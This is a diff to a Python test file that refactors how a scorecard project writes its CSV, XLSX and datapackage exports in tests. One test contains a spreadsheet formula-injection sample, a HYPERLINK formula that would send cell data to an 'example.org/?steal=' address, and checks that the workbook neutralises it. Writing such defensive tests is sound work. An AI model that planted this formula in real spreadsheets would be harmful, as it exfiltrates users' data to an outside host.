@@ -14,7 +14,7 @@ import yaml
 
 from scorecard import __version__
 from scorecard.analysis.figures import Figures, compute
-from scorecard.building.data import csv_bytes, json_bytes, write_data, xlsx_bytes
+from scorecard.building.data import csv_bytes, data_document, data_files, json_bytes, xlsx_bytes
 from scorecard.documents.council import QUESTION
 from scorecard.documents.data import Cell, Field, Table, citation, data_tables
 from scorecard.documents.scorecard import scorecard, shared
@@ -43,9 +43,13 @@ def early(evidence: Evidence) -> dict[str, Table]:
 def folder(evidence: Evidence, figures: Figures, tmp_path_factory: pytest.TempPathFactory) -> Path:
     """The data of the edition, as a researcher finds it."""
     folder = tmp_path_factory.mktemp("data")
-    written = write_data(folder, evidence, figures)
-    assert sorted(written) == sorted(folder.iterdir())
+    written(folder, evidence, figures)
     return folder
+
+
+def written(folder: Path, evidence: Evidence, figures: Figures) -> None:
+    for name, content in data_files(data_document(evidence, figures)).items():
+        (folder / name).write_bytes(content)
 
 
 def records(table: Table) -> list[Record]:
@@ -275,16 +279,16 @@ def test_a_formula_in_the_evidence_is_neutralised_in_the_workbook_and_exact_in_c
     formula = '=HYPERLINK("https://example.org/?steal="&A1)'
     change("AT.yaml", "says: {en: Supports the text.}", f"says: {{en: '{formula}'}}")
     evidence = load(project)
-    write_data(tmp_path / "data", evidence, compute(evidence, DAY))
-    sheet = openpyxl.load_workbook(tmp_path / "data" / "csa-scorecard.xlsx")["statements"]
+    written(tmp_path, evidence, compute(evidence, DAY))
+    sheet = openpyxl.load_workbook(tmp_path / "csa-scorecard.xlsx")["statements"]
     header = [cell.value for cell in sheet[1]]
     cell = sheet.cell(2, header.index("says_en") + 1)
     assert (cell.data_type, cell.value) == ("s", f"'{formula}")
-    with (tmp_path / "data" / "statements.csv").open(encoding="utf-8", newline="") as file:
+    with (tmp_path / "statements.csv").open(encoding="utf-8", newline="") as file:
         rows = list(csv.DictReader(file))
     assert rows[0]["says_en"] == formula
     assert json.loads(rows[1]["says_other"]) == {"de": "Lehnt Anordnungen ab."}
-    assert frictionless.validate(str(tmp_path / "data" / "datapackage.json")).valid
+    assert frictionless.validate(str(tmp_path / "datapackage.json")).valid
 
 
 def test_a_control_character_does_not_break_the_workbook() -> None:
@@ -316,8 +320,8 @@ def test_the_data_package_says_whose_it_is_and_what_every_field_means(folder: Pa
 def test_the_same_bytes_again_and_no_time_of_writing(
     evidence: Evidence, figures: Figures, folder: Path, tmp_path: Path
 ) -> None:
-    for path in write_data(tmp_path, evidence, figures):
-        assert path.read_bytes() == (folder / path.name).read_bytes(), path.name
+    for name, content in data_files(data_document(evidence, figures)).items():
+        assert content == (folder / name).read_bytes(), name
     with zipfile.ZipFile(folder / "csa-scorecard.xlsx") as book:
         assert {part.date_time for part in book.infolist()} == {(1980, 1, 1, 0, 0, 0)}
         assert book.read("docProps/core.xml").count(b"2026-11-24T00:00:00Z") == 2
